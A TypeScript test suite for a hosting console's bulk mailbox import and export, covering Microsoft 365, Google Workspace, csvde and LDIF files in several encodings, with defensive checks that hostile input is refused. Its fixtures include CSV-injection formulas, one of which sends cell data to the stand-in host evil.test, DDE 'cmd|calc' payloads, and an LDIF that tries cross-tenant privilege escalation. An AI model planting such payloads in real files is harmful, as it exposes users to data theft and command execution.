/**
 * Files as they arrive at a hosting company (test/fixtures/bulk/README.md), each in two encodings, on a real
 * slapd: the preview's exact row-level results (every reason naming its row and the file's header), the import of
 * the valid rows with every character intact, the other encoding finding them unchanged, and the export giving the
 * kept values back byte for byte, formula-like cells guarded, so that importing the export changes nothing.
 */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DirectorySession } from '../../../main/app/directory-session';
import { AuditJournal } from '../../../main/audit/audit-journal';
import { exportMailboxesCsv } from '../../../main/bulk/mailbox-export';
import { JobRunner } from '../../../main/bulk/job-runner';
import { readImportCsv } from '../../../main/bulk/csv-reading';
import { describeIssues, type ImportPreview } from '../../../shared/model/bulk-import';
import { openSession } from '../../harness/hosting-session';
import { startTestDirectory, type TestDirectory } from '../../harness/test-directory';

let dir: TestDirectory;
let session: DirectorySession;
let jobsRoot: string;
let runner: JobRunner;

const fixture = (name: string) => readFile(path.resolve('test/fixtures/bulk', name));
const preview = async (name: string, mode: 'create' | 'upsert' = 'create') =>
  runner.preview(session.services, 'Contoso', { fileBase64: (await fixture(name)).toString('base64') }, mode, 1000);

/** Row → "create" | "unchanged" | … | the rejection's reasons, each with its column. */
function outcomes(result: ImportPreview): Record<number, string> {
  return Object.fromEntries(result.rows.map((row) => [row.row, row.action === 'rejected' ? describeIssues(row.issues) : row.action]));
}
const notices = (result: ImportPreview) => Object.fromEntries(result.rows.filter((row) => row.notices).map((row) => [row.row, describeIssues(row.notices ?? [])]));

async function importOnlyValid(name: string): Promise<{ jobId: string }> {
  const started = await runner.start(session.services, { tenant: 'Contoso', fileBase64: (await fixture(name)).toString('base64'), mode: 'create', onlyValid: true, fileName: name });
  const end = await runner.wait(started.jobId);
  expect(end.state).toBe('completed');
  return started;
}

/** The export's rows by login, as cells by header. */
async function exported(): Promise<{ csv: string; byLogin: Map<string, Record<string, string>> }> {
  const { csv } = await exportMailboxesCsv(session.services, 'Contoso');
  const table = readImportCsv(csv);
  const byLogin = new Map(table.rows.map((row) => [row.cells.login ?? '', row.cells as Record<string, string>]));
  return { csv, byLogin };
}

beforeAll(async () => {
  dir = await startTestDirectory();
  session = await openSession(dir);
  jobsRoot = await mkdtemp(path.join(tmpdir(), 'enclave-files-'));
  runner = new JobRunner({ root: jobsRoot, emit: () => {}, auditJournal: new AuditJournal(path.join(jobsRoot, 'journal.jsonl')) });
  await session.services.tenants.create({ name: 'Contoso', settings: { mailDomains: ['contoso.test'] } });
  const base = { givenName: 'Ex', displayName: '', aliases: [], hiddenFromAddressBook: false, password: 'Correct-Horse-9', enabled: true, groups: [] };
  await session.services.mailboxes.create({ ...base, tenant: 'Contoso', login: 'existing', surname: 'Isting', primaryAddress: 'existing@contoso.test', quotaBytes: null });
  // Another tenant, for the attacks: its mailbox, its list and its admins must stay out of reach of Contoso's files.
  await session.services.tenants.create({ name: 'Fabrikam', settings: { mailDomains: ['fabrikam.test'] } });
  await session.services.mailboxes.create({ ...base, tenant: 'Fabrikam', login: 'fab.boss', surname: 'Boss', primaryAddress: 'boss@fabrikam.test', quotaBytes: null });
  await session.services.groups.create({ tenant: 'Fabrikam', kind: 'distribution', name: 'Board', description: '', address: 'board@fabrikam.test', members: ['fab.boss'] });
});
afterAll(async () => {
  await session?.connection.dispose();
  await dir?.stop();
  await rm(jobsRoot, { recursive: true, force: true });
});

const formula = (header: string, value: string) =>
  `${header}: "${value}" starts with "${value.charAt(0)}", which a spreadsheet would run as a formula (CSV injection): names may not start with = + - @`;

describe('Microsoft 365 admin center file', () => {
  const common = {
    2: 'create',
    3: 'create',
    4: 'create',
    5: 'create',
    6: formula('Last Name', '=HYPERLINK("http://evil.test/?x="&A1,"Click")'),
    7: formula('First Name', '+cmd'),
    8: formula('Last Name', '-2+3'),
    9: formula('Last Name', "@SUM(1+1)*cmd|' /C calc'!A0"),
    10: 'create',
    13: 'User Name: "bob" is not an address (name@domain), so it gives no login; User Name: bob: Not a valid mail address (expected name@domain)',
    14: 'User Name: frank@fabrikam.test is not in a domain of tenant "Contoso" (contoso.test)',
    15: 'Last Name: Last name is required',
    16: 'create',
    17: formula('Last Name', '-Klum'),
    18: 'create',
    19: 'create',
  };

  it('is recognised, mapped with every header named, and previewed row by row in both encodings', async () => {
    const utf8 = await preview('m365-users.utf8.csv');
    expect(utf8.encoding).toBe('UTF-8 (BOM)');
    expect(utf8.mapping.format).toBe('microsoft-365');
    expect(utf8.mapping.headers.map((h) => [h.header, h.use])).toEqual([
      ['User Name', 'login (the part before @); primary address (the user name (the UPN) as it is)'],
      ['First Name', 'given name'],
      ['Last Name', 'surname'],
      ['Display Name', 'display name'],
      ...['Job Title', 'Department', 'Office Number', 'Office Phone', 'Mobile Phone', 'Fax'].map((h) => [h, 'ignored: a profile field Enclave does not keep']),
      ['Alternate email address', 'ignored: an outside address for password recovery, not an alias'],
      ['Address', 'ignored: the street address'],
      ...['City', 'State or Province', 'ZIP or Postal Code', 'Country or Region'].map((h) => [h, 'ignored: a profile field Enclave does not keep']),
    ]);
    expect(utf8.mapping.columns.find((c) => c.column === 'password')?.how).toMatch(/generated for each new mailbox/);
    expect(outcomes(utf8)).toEqual({
      ...common,
      11: 'Last Name: contains the directional control U+202E RIGHT-TO-LEFT OVERRIDE at character 6, which changes how the text is shown (refused anywhere)',
      12: 'First Name: contains the control character U+008A at character 1: a Windows-1252 "Š" decoded wrongly (fix the file, or export it again as "CSV UTF-8")',
    });
    expect(notices(utf8)).toEqual({ 10: 'Last Name: an invisible U+200B ZERO WIDTH SPACE at the start was removed' });
    expect(utf8.counts).toEqual({ rows: 18, create: 8, update: 0, unchanged: 0, rejected: 10 });

    const legacy = await preview('m365-users.cp1252.csv');
    expect(legacy.encoding).toBe('Windows-1252');
    expect(legacy.warnings[0]).toBe('The file is not valid UTF-8 (byte 0x80 at offset 246, line 2): it was read as Windows-1252 (Excel\'s "CSV" format). Save it as "CSV UTF-8" to be sure.');
    const undefinedByte = (header: string, at: number) =>
      `${header}: contains U+FFFD REPLACEMENT CHARACTER at character ${at}: a byte the file's encoding does not define (Windows-1252 leaves 0x81, 0x8D, 0x8F, 0x90 and 0x9D undefined)`;
    expect(outcomes(legacy)).toEqual({ ...common, 11: undefinedByte('Last Name', 6), 12: undefinedByte('First Name', 1) });
    expect(notices(legacy)).toEqual({});
  });

  it('imports the valid rows with every character intact; the Windows-1252 file then finds each of them unchanged', async () => {
    await importOnlyValid('m365-users.utf8.csv');
    const get = (login: string) => session.services.mailboxes.get('Contoso', login);
    expect(await get('sarka.novakova')).toMatchObject({ givenName: 'Šárka', surname: 'Nováková', displayName: 'Šárka Nováková', primaryAddress: 'sarka.novakova@contoso.test' });
    expect(await get('jose.munoz')).toMatchObject({ displayName: 'Muñoz, José – Sales' });
    expect(await get('zoe.oconnor')).toMatchObject({ surname: 'O’Connor' });
    expect(await get('chris')).toMatchObject({ displayName: 'Chris Green (€ budget)' });
    expect(await get('victor')).toMatchObject({ surname: 'Nilsson', displayName: 'Victor Nilsson' });
    expect((await get('ivan')).displayName).toBe('Ivan ‚ƒ„…†‡ˆ‰Š‹ŒŽ‘’“”•–—˜™š›œžŸ€');
    expect(await get('judy')).toMatchObject({ surname: 'Smith, Jr.', displayName: '“Judy” Smith' });

    const legacy = await preview('m365-users.cp1252.csv');
    expect(legacy.rows.filter((row) => row.action !== 'rejected').map((row) => [row.row, row.action])).toEqual([2, 3, 4, 5, 10, 16, 18, 19].map((row) => [row, 'unchanged']));
  });

  it('exports the kept values byte for byte, and importing the export changes nothing, twice', async () => {
    const first = await exported();
    const source = readImportCsv((await fixture('m365-users.utf8.csv')).toString('utf8'));
    for (const row of source.rows.filter((r) => [2, 3, 4, 5, 16, 18, 19].includes(r.row))) {
      const out = first.byLogin.get(row.cells.login ?? '');
      expect({ row: row.row, ...out }).toMatchObject({ row: row.row, givenName: row.cells.givenName, surname: row.cells.surname, displayName: row.cells.displayName, primaryAddress: row.cells.primaryAddress });
    }
    const again = await runner.preview(session.services, 'Contoso', first.csv, 'upsert', 100);
    expect(again.counts).toMatchObject({ update: 0, create: 0, rejected: 0 });
    expect((await exported()).csv).toBe(first.csv);
  });
});

describe('Google Workspace upload file', () => {
  const common = {
    2: 'create',
    3: 'create',
    4: 'create',
    5: 'Password [Required]: is a SHA-1 hash ("Password Hash Function [UPLOAD ONLY]"): Enclave sets the cleartext password, which the directory hashes and checks against its policy; give it in clear or write "generate"',
    6: formula('Last Name [Required]', "=cmd|' /C calc'!A0"),
    7: 'create',
    8: 'create',
    10: 'create',
    11: "Password [Required]: Password does not meet the tenant's password policy: at least 8 characters",
    12: 'New Status [UPLOAD ONLY]: "Maybe" is not yes or no',
    13: 'Email Address [Required]: Login is required; Email Address [Required]: Primary address is required',
  };

  it('maps the "[Required]" headers and previews both encodings row by row', async () => {
    const utf8 = await preview('google-users.utf8.csv');
    expect(utf8.mapping.format).toBe('google-workspace');
    expect(utf8.mapping.missing).toEqual([]);
    expect(Object.fromEntries(utf8.mapping.columns.filter((c) => c.headers.length > 0).map((c) => [c.column, c.headers]))).toEqual({
      login: ['Email Address [Required]'],
      givenName: ['First Name [Required]'],
      surname: ['Last Name [Required]'],
      primaryAddress: ['Email Address [Required]', 'New Primary Email [UPLOAD ONLY]'],
      password: ['Password [Required]', 'Password Hash Function [UPLOAD ONLY]'],
      enabled: ['New Status [UPLOAD ONLY]'],
    });
    expect(outcomes(utf8)).toEqual({ ...common, 9: 'Last Name [Required]: contains the invisible character U+200B ZERO WIDTH SPACE at character 3' });
    expect(notices(utf8)).toEqual({ 8: 'Last Name [Required]: 2 invisible U+200B ZERO WIDTH SPACE characters at the end were removed' });

    const legacy = await preview('google-users.cp1252.csv');
    expect(legacy.encoding).toBe('Windows-1252');
    expect(outcomes(legacy)).toEqual({
      ...common,
      9: "Last Name [Required]: contains U+FFFD REPLACEMENT CHARACTER at character 3: a byte the file's encoding does not define (Windows-1252 leaves 0x81, 0x8D, 0x8F, 0x90 and 0x9D undefined)",
    });
  });

  it('imports the valid rows: the login from the address, the new primary address, suspended as disabled, "****" generated', async () => {
    const { jobId } = await importOnlyValid('google-users.utf8.csv');
    const get = (login: string) => session.services.mailboxes.get('Contoso', login);
    expect(await get('bjorn')).toMatchObject({ givenName: 'Björn', surname: 'Ångström', enabled: false });
    expect(await get('chen')).toMatchObject({ givenName: '伟', surname: '陈' });
    expect(await get('mehr')).toMatchObject({ givenName: 'مهر\u200cانگیز' });
    expect(await get('gil')).toMatchObject({ surname: 'Bates' });
    expect(await get('ivo')).toMatchObject({ primaryAddress: 'ivo.new@contoso.test', surname: 'Ivić' });
    const report = (await runner.reportCsv(jobId)).csv.replace(/^\uFEFF/, '').trim().split('\r\n');
    expect(report.find((line) => line.startsWith('4,chen,created,,'))).toMatch(/^4,chen,created,,[A-Za-z2-9]{4}(-[A-Za-z2-9]{4}){3},,$/);
    expect(report).toContain('5,dora,rejected,,,"Password [Required]: is a SHA-1 hash (""Password Hash Function [UPLOAD ONLY]""): Enclave sets the cleartext password, which the directory hashes and checks against its policy; give it in clear or write ""generate""",');
    expect(report).toContain('8,gil,created,,,,Last Name [Required]: 2 invisible U+200B ZERO WIDTH SPACE characters at the end were removed');
  });
});

describe('Active Directory export (csvde)', () => {
  const expected = {
    2: 'create',
    3: 'create',
    4: 'objectClass: is "group": only users become mailboxes (import groups and lists from an LDIF export: ldifde)',
    5: 'objectClass: is "contact": only users become mailboxes',
    6: 'proxyAddresses: names 2 primary addresses (SMTP:carl@contoso.test, SMTP:carl.two@contoso.test); only one may be "SMTP:"',
    7: 'create',
    8: 'create',
    9: formula('displayName', '@SUM(1)'),
    10: 'objectClass: is "computer": only users become mailboxes',
    11: 'sAMAccountName: Login name: 1–20 characters, letters, digits, dot, dash or underscore, starting with a letter or digit',
    12: 'create',
    13: 'userAccountControl: "abc" is not a userAccountControl number',
    14: 'create',
  };

  it('reads ANSI (Windows-1252) and Unicode (UTF-16LE) exports to the same rows', async () => {
    for (const [name, encoding] of [['csvde-users.cp1252.csv', 'Windows-1252'], ['csvde-users.utf16le.csv', 'UTF-16LE (BOM)']] as const) {
      const result = await preview(name);
      expect(result.encoding).toBe(encoding);
      expect(result.mapping.format).toBe('active-directory');
      expect(outcomes(result)).toEqual(expected);
      expect(notices(result)).toEqual({ 12: 'mail: gus.old@contoso.test is neither the primary "SMTP:" address (gus@contoso.test) nor among the aliases; it was not imported' });
    }
  });

  it('imports SMTP: as primary, smtp: as aliases (other address types left out), the disabled bit, and the Unicode export finds them unchanged', async () => {
    await importOnlyValid('csvde-users.cp1252.csv');
    const get = (login: string) => session.services.mailboxes.get('Contoso', login);
    expect(await get('aberg')).toMatchObject({ primaryAddress: 'anna.berg@contoso.test', aliases: ['aberg@contoso.test'], enabled: true });
    expect(await get('sodegard')).toMatchObject({ givenName: 'Ståle', surname: 'Ødegård', enabled: false });
    expect(await get('eskoda')).toMatchObject({ surname: 'Škoda' });
    expect(await get('iboss')).toMatchObject({ displayName: '“Boss” — Chief ‹Iris›' });
    const unicode = await preview('csvde-users.utf16le.csv');
    expect(unicode.rows.filter((row) => row.action !== 'rejected').map((row) => row.action)).toEqual(Array(6).fill('unchanged'));
  });
});

describe('a file that mixes encodings', () => {
  it('reads each line in its own encoding, and flags the Windows-1252 line and the mojibake row', async () => {
    const result = await preview('mixed-encoding.csv');
    expect(result.encoding).toBe('UTF-8 and Windows-1252');
    expect(outcomes(result)).toEqual({ 2: 'create', 3: 'create', 4: 'create', 5: 'create' });
    expect(notices(result)).toEqual({
      3: 'line 3 is not UTF-8 like the rest of the file (byte 0xEB at offset 107): it was read as Windows-1252; check its values',
      4: 'surname: "MÃ¼ller" reads like UTF-8 decoded as Windows-1252; it was probably "Müller": check the file',
    });
    await importOnlyValid('mixed-encoding.csv');
    expect(await session.services.mailboxes.get('Contoso', 'anke')).toMatchObject({ surname: 'Müller' });
    expect(await session.services.mailboxes.get('Contoso', 'zoe')).toMatchObject({ givenName: 'Zoë', surname: 'Weiß' });
    expect(await session.services.mailboxes.get('Contoso', 'otto')).toMatchObject({ surname: 'Öström' });
  });
});

describe('LDIF', () => {
  it('previews mailboxes, groups and lists of one tenant, with containers and built-in groups left out', async () => {
    const result = await preview('directory.ldif');
    expect(result.mapping.format).toBe('ldif');
    expect(result.warnings).toEqual([
      "Containers left out (the tenant's own are used): ou=people,dc=old,dc=test (line 6).",
      'Built-in groups left out (their members are managed by the console): all-users (line 70).',
    ]);
    expect(result.rows.map((row) => [row.row, row.login, row.entity ?? 'mailbox', row.action === 'rejected' ? describeIssues(row.issues) : row.action])).toEqual([
      [10, 'lena', 'mailbox', 'create'],
      [23, 'jmueller', 'mailbox', 'create'],
      [34, 'omar', 'mailbox', 'create'],
      [43, 'mal', 'mailbox', formula('sn', '=HYPERLINK("http://evil.test","Open")')],
      [49, 'ghost', 'mailbox', 'line 50: is a change record (changetype: modify): only entries are imported (content records, or changetype: add), not modifications'],
      [55, 'Engineering', 'security', 'create'],
      [62, 'News', 'distribution', 'create'],
      [75, 'Outsiders', 'security', 'member: uid=nobody,ou=people,dc=elsewhere,dc=test is neither a mailbox of tenant "Contoso" nor a mailbox entry of this file'],
      [80, 'Nested', 'security', 'member: cn=Engineering,ou=groups,dc=old,dc=test is a group: groups and lists hold mailboxes only'],
      [85, 'printer-2', 'mailbox', 'objectClass: "device" is not a mailbox, group or list'],
    ]);
    expect(notices(result)).toEqual({
      23: 'userPassword: holds a {SSHA} hash, which cannot be carried over (the directory hashes and checks the password it is sent): a password is generated for a new mailbox and given in the report',
    });
  });

  it('creates the groups and lists with their members (new and existing mailboxes), and a second run changes nothing', async () => {
    await importOnlyValid('directory.ldif');
    const lena = await session.services.mailboxes.get('Contoso', 'lena');
    expect(lena).toMatchObject({ surname: 'Lindqvist', aliases: ['l.lindqvist@contoso.test'] });
    expect(await session.services.mailboxes.get('Contoso', 'jmueller')).toMatchObject({ givenName: 'Jörg', surname: 'Müller', displayName: 'Jörg Müller (Head of Engineering, Research and Development, Berlin office)' });
    expect(await session.services.mailboxes.get('Contoso', 'omar')).toMatchObject({ enabled: false });
    const engineering = await session.services.groups.get({ tenant: 'Contoso', kind: 'security', name: 'Engineering' });
    expect(engineering).toMatchObject({ description: 'The engineers' });
    expect(engineering.members.map((m) => m.login).sort()).toEqual(['jmueller', 'lena']);
    const news = await session.services.groups.get({ tenant: 'Contoso', kind: 'distribution', name: 'News' });
    expect(news).toMatchObject({ address: 'news@contoso.test' });
    expect(news.members.map((m) => m.login).sort()).toEqual(['existing', 'omar']);
    const allUsers = await session.services.groups.get({ tenant: 'Contoso', kind: 'security', name: 'all-users' });
    expect(allUsers.members.map((m) => m.login)).toEqual(expect.arrayContaining(['lena', 'jmueller', 'omar']));

    for (const mode of ['create', 'upsert'] as const) {
      const again = await preview('directory.ldif', mode);
      expect(again.rows.filter((row) => row.action !== 'rejected').map((row) => [row.login, row.action])).toEqual(
        ['lena', 'jmueller', 'omar', 'Engineering', 'News'].map((login) => [login, 'unchanged']),
      );
    }
  });
});

describe('formula-like values the directory already holds', () => {
  it('are exported guarded with a quote, read back as they are, and an upsert of the export finds them unchanged', async () => {
    const base = { tenant: 'Contoso', givenName: '', displayName: '', aliases: [], hiddenFromAddressBook: false, password: 'Correct-Horse-9', enabled: true, groups: [], quotaBytes: null };
    // Made in the console (its forms allow any printable name); the import would refuse them as new values.
    await session.services.mailboxes.create({ ...base, login: 'f.minus', surname: '-Smith', displayName: "'=already quoted", primaryAddress: 'f.minus@contoso.test' });
    await session.services.mailboxes.create({ ...base, login: 'f.equals', surname: '=1+2', givenName: '@home', primaryAddress: 'f.equals@contoso.test' });
    const first = await exported();
    const lines = first.csv.split('\r\n');
    expect(lines.find((line) => line.startsWith('f.minus,'))).toBe("f.minus,,'-Smith,''=already quoted,f.minus@contoso.test,,unlimited,,,yes");
    expect(lines.find((line) => line.startsWith('f.equals,'))).toBe("f.equals,'@home,'=1+2,'@home =1+2,f.equals@contoso.test,,unlimited,,,yes");
    expect(first.byLogin.get('f.minus')).toMatchObject({ surname: '-Smith', displayName: "'=already quoted" });
    const again = await runner.preview(session.services, 'Contoso', first.csv, 'upsert', 1000);
    expect(again.counts).toMatchObject({ create: 0, update: 0, rejected: 0 });
    expect((await exported()).csv).toBe(first.csv);
  });
});

describe('LDIF that reaches beyond its tenant', () => {
  const suffix = 'dc=hosting,dc=test';
  const ldif = [
    'dn: cn=tenant-admins,ou=groups,dc=old',
    'objectClass: groupOfNames',
    'cn: tenant-admins',
    'member: uid=intruder,ou=people,dc=old',
    '',
    'dn: uid=intruder,ou=people,dc=old',
    'objectClass: inetOrgPerson',
    'uid: intruder',
    'sn: Intruder',
    'mail: intruder@contoso.test',
    'userPassword: Intruder-Pass-1',
    '',
    'dn: uid=fab.boss,ou=people,dc=old',
    'objectClass: inetOrgPerson',
    'uid: fab.boss',
    'sn: Boss',
    'mail: fab.boss@contoso.test',
    '',
    'dn: uid=existing,ou=people,dc=old',
    'objectClass: inetOrgPerson',
    'uid: existing',
    'sn: Isting',
    'givenName: Ex',
    'mail: existing@contoso.test',
    'userPassword: {SSHA}W6ph5Mm5Pz8GgiULbPgzG37mj9g1ZwZs',
    '',
    'dn: cn=Board Copy,ou=groups,dc=old',
    'objectClass: groupOfNames',
    'cn: Board Copy',
    'mail: board@fabrikam.test',
    `member: uid=fab.boss,ou=mailboxes,ou=Fabrikam,ou=tenants,${suffix}`,
    '',
    'dn: cn=Sneaky,ou=groups,dc=old',
    'objectClass: groupOfNames',
    'cn: Sneaky',
    `member: UID=FAB.BOSS, OU=Mailboxes, OU=Fabrikam, OU=Tenants, ${suffix.toUpperCase()}`,
    '',
    'dn: cn==cmd|calc,ou=groups,dc=old',
    'objectClass: groupOfNames',
    'cn: =cmd|calc',
    'member: uid=intruder,ou=people,dc=old',
    '',
  ].join('\n');

  it('leaves the built-in groups out, and refuses other tenants\' logins, addresses and mailboxes as members', async () => {
    const result = await runner.preview(session.services, 'Contoso', ldif, 'upsert', 100);
    expect(result.warnings).toEqual(['Built-in groups left out (their members are managed by the console): tenant-admins (line 1).']);
    expect(result.rows.map((row) => [row.row, row.login, row.action === 'rejected' ? describeIssues(row.issues) : row.action])).toEqual([
      [6, 'intruder', 'create'],
      [13, 'fab.boss', 'uid: Login "fab.boss" is already taken in tenant "Fabrikam"'],
      [19, 'existing', 'unchanged'],
      [
        27,
        'Board Copy',
        'mail: board@fabrikam.test is not in a domain of tenant "Contoso" (contoso.test); mail: Address board@fabrikam.test is already used by list "Board" in tenant "Fabrikam"; ' +
          `member: uid=fab.boss,ou=mailboxes,ou=Fabrikam,ou=tenants,${suffix} is neither a mailbox of tenant "Contoso" nor a mailbox entry of this file`,
      ],
      [33, 'Sneaky', `member: UID=FAB.BOSS, OU=Mailboxes, OU=Fabrikam, OU=Tenants, ${suffix.toUpperCase()} is neither a mailbox of tenant "Contoso" nor a mailbox entry of this file`],
      [38, '=cmd|calc', 'cn: "=cmd|calc" starts with "=", which a spreadsheet would run as a formula'],
    ]);
    // The hash of an existing mailbox is never applied (an import never changes a password); it is said.
    expect(notices(result)).toEqual({ 19: expect.stringMatching(/^userPassword: holds a \{SSHA\} hash, which cannot be carried over/) });

    const started = await runner.start(session.services, { tenant: 'Contoso', csv: ldif, mode: 'upsert', onlyValid: true, fileName: 'attack.ldif' });
    expect(await runner.wait(started.jobId)).toMatchObject({ state: 'completed', created: 1, unchanged: 1, rejected: 4, fileRows: 6 });
    const admins = await session.services.groups.get({ tenant: 'Contoso', kind: 'security', name: 'tenant-admins' });
    expect(admins.members.map((m) => m.login)).not.toContain('intruder');
    const board = await session.services.groups.get({ tenant: 'Fabrikam', kind: 'distribution', name: 'Board' });
    expect(board.members.map((m) => m.login)).toEqual(['fab.boss']);
  });
});

describe('an LDIF job stopped after its groups', () => {
  it('resumes: the mailboxes created later still join the groups the first run created', async () => {
    const ldif = [
      'dn: cn=Night Shift,ou=groups,dc=old',
      'objectClass: groupOfNames',
      'cn: Night Shift',
      'member: uid=n1,ou=people,dc=old',
      'member: uid=n2,ou=people,dc=old',
      'member: uid=n3,ou=people,dc=old',
      '',
      ...[1, 2, 3].flatMap((n) => [`dn: uid=n${n},ou=people,dc=old`, 'objectClass: inetOrgPerson', `uid: n${n}`, `sn: Night ${n}`, `mail: n${n}@contoso.test`, '']),
    ].join('\n');
    const stepwise = new JobRunner({ root: jobsRoot, emit: () => {}, chunkSize: 1, auditJournal: new AuditJournal(path.join(jobsRoot, 'journal.jsonl')) });
    const started = await stepwise.start(session.services, { tenant: 'Contoso', csv: ldif, mode: 'create', onlyValid: false, fileName: 'night.ldif' });
    // Asked at once, the pause lands after the first chunk: the group (groups are written first), no mailbox yet.
    const paused = await stepwise.pause(started.jobId);
    expect(paused).toMatchObject({ state: 'paused', done: 1, created: 1 });
    expect((await session.services.groups.get({ tenant: 'Contoso', kind: 'security', name: 'Night Shift' })).members).toEqual([]);
    const resumed = await stepwise.resume(session.services, started.jobId);
    expect(resumed.state).toBe('running');
    expect(await stepwise.wait(started.jobId)).toMatchObject({ state: 'completed', created: 4, failed: 0 });
    const group = await session.services.groups.get({ tenant: 'Contoso', kind: 'security', name: 'Night Shift' });
    expect(group.members.map((m) => m.login).sort()).toEqual(['n1', 'n2', 'n3']);
  });
});
